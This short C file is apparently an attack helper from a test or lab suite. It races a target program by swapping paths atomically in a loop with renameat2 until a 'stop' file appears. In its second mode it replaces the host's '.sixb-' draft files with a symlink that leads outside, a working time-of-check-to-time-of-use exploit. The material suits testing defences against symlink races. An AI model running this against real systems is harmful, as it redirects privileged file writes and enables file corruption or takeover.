// Swaps two names as fast as it can, atomically, until the file `stop` is there: what a call looked at is not what it uses.
// With one argument: swaps every draft of the host (`.sixb-…`) for a link that leads out.
#include "attack.h"
#include <dirent.h>
#include <fcntl.h>

static void swap(const char *a, const char *b) { syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2); }

int main(int argc, char **argv) {
    if (argc == 3) {
        while (access("stop", F_OK)) swap(argv[1], argv[2]);
        return 0;
    }
    while (access("stop", F_OK)) {
        DIR *folder = opendir(".");
        for (struct dirent *entry; (entry = readdir(folder));)
            if (!strncmp(entry->d_name, ".sixb-", 6)) {
                symlink(argv[1], "lure");
                swap(entry->d_name, "lure");
                unlink("lure");
            }
        closedir(folder);
    }
    return 0;
}
